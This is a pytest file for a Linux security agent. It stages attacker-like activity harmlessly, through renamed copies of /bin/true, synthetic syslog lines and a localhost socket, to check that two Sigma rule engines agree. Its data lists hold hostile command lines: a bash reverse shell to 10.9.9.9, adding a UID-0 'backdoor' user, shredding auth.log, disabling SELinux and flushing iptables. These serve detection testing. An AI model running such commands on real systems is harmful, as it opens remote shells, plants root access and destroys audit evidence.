"""The differential test on events recorded from a real agent run: attacker-looking procedures done
harmlessly (copies of /bin/true named like the tools, with the tools' arguments; files written on the
test's tmpfs; a connection to a listener of the test's own; attacker-looking lines appended to a log
file the log sensor follows), beside whatever else the host runs, with the raw audit events of every
exec recorded too (`audit_events_all`). The engine and pySigma's SQLite backend must agree on every
(rule, event) pair of the recording."""

from __future__ import annotations

import io
import shutil
import socket
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from tests.agent.helpers import Collector, scoped_config
from tests.engines.sigma.corpus import LINUX_RULE_DIRS, Reference, engine_matches

from ringfence.agent import Agent, Console
from ringfence.broker import ThreadedSubscriber
from ringfence.engines.sigma import load_files, rule_files
from ringfence.sdk import AuditEvent, EventKind, LogEvent, ProcessActivity

pytestmark = [
    pytest.mark.kernel,
    pytest.mark.skipif(not LINUX_RULE_DIRS[0].is_dir(), reason="../shared/data/sigmahq is not there"),
]

PROCEDURES = [
    ("base64", "-d", "payload.b64"),
    ("whoami",),
    ("crontab", "-l"),
    ("chmod", "+x", "/tmp/dropper"),
    ("nohup", "bash", "-c", "id"),
    ("setenforce", "0"),
    ("iptables", "-F"),
    ("history", "-c"),
    ("shred", "-u", "/var/log/auth.log"),
    ("useradd", "-o", "-u", "0", "backdoor"),
]
# run with argv[0] the bare name, as a shell runs them: auditd rules read the EXECVE record's a0
BARE = [
    ("whoami",),
    ("chmod", "777", "/tmp/x"),
    ("getcap", "-r", "/"),
    ("iptables", "-A", "INPUT", "-j", "DROP"),
]
LOG_LINES = [
    "Dec  2 06:00:01 h bash[4242]: bash -i >& /dev/tcp/10.9.9.9/4444 0>&1",
    "Dec  2 06:00:02 h sshd[77]: error: Corrupted MAC on input.",
    "Dec  2 06:00:03 h kernel: device eth0 entered promiscuous mode",
    "Dec  2 06:00:04 h CRON[12]: (root) CMD (run-parts /etc/cron.hourly)",
]


@pytest.fixture
def recorded(tmpfs: Path, tmp_path: Path) -> Iterator[list]:
    collector = Collector()
    log = tmp_path / "syslog"
    log.write_text("")
    config = scoped_config(tmpfs, tmp_path / "state")
    sensors = msgspec.structs.replace(
        config.sensors,
        audit_events=True,
        audit_events_all=True,
        logs=True,
        log_files=(str(log),),
        log_source="files",
    )
    agent = Agent(msgspec.structs.replace(config, sensors=sensors), console=Console(io.StringIO()))
    kinds = frozenset({EventKind.PROCESS, EventKind.FILE, EventKind.NETWORK, EventKind.AUDIT, EventKind.LOG})
    agent.broker.subscribe(ThreadedSubscriber("recorder", collector, kinds).start())
    agent.start()
    try:
        yield _perform(tmpfs, collector, log)
    finally:
        agent.stop()


def _perform(tmpfs: Path, collector: Collector, log: Path) -> list:
    tools = tmpfs / "usr" / "bin"
    tools.mkdir(parents=True)
    for argv in PROCEDURES:
        shutil.copy2("/bin/true", tools / argv[0])
        subprocess.run([str(tools / argv[0]), *argv[1:]], check=True, timeout=30)
    for argv in BARE:
        shutil.copy2("/bin/true", tools / argv[0])
        subprocess.run(list(argv), executable=str(tools / argv[0]), check=True, timeout=30)
    with log.open("a") as f:
        f.write("".join(line + "\n" for line in LOG_LINES))
    (tmpfs / "etc" / "cron.d").mkdir(parents=True)
    (tmpfs / "etc" / "cron.d" / "job").write_text("* * * * * root /tmp/x\n")
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        subprocess.run(
            ["/bin/sh", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port} 2>/dev/null || true"], check=False
        )
    marker = f"--rf-end-{uuid.uuid4().hex[:8]}"
    subprocess.run(["/bin/true", marker], check=True)
    collector.wait_for(lambda e: isinstance(e, ProcessActivity) and marker in e.process.cmdline, timeout_s=15)
    collector.wait_for(lambda e: isinstance(e, AuditEvent) and marker in str(e.records), timeout_s=15)
    collector.wait_for(lambda e: isinstance(e, LogEvent) and "cron.hourly" in e.message, timeout_s=15)
    return list(collector.seen)


def test_recorded_agent_events_match_exactly_what_the_sqlite_backend_matches(recorded: list) -> None:
    files = [(str(d / n), str(d / n)) for d in LINUX_RULE_DIRS for n in rule_files(str(d))]
    rules = load_files(files)
    mine = set(engine_matches(rules, recorded))
    reference = Reference(LINUX_RULE_DIRS)
    reference.load(recorded)
    theirs = reference.matches()
    assert mine == theirs, (sorted(mine - theirs)[:5], sorted(theirs - mine)[:5])
    titles = {
        rules.rules[k].title for k in range(len(rules.rules)) if rules.rules[k].id in {r for r, _ in mine}
    }
    assert len(titles) >= 8, titles  # the procedures really hit rules: the comparison is not empty
    sources = {
        rules.rules[k].logsource for k in range(len(rules.rules)) if rules.rules[k].id in {r for r, _ in mine}
    }
    assert {"auditd", "builtin", "sshd"} <= sources, sources  # the new kinds were compared too
    assert any(
        isinstance(e, AuditEvent) and len(e.records) > 2 for e in recorded
    )  # whole events, all records
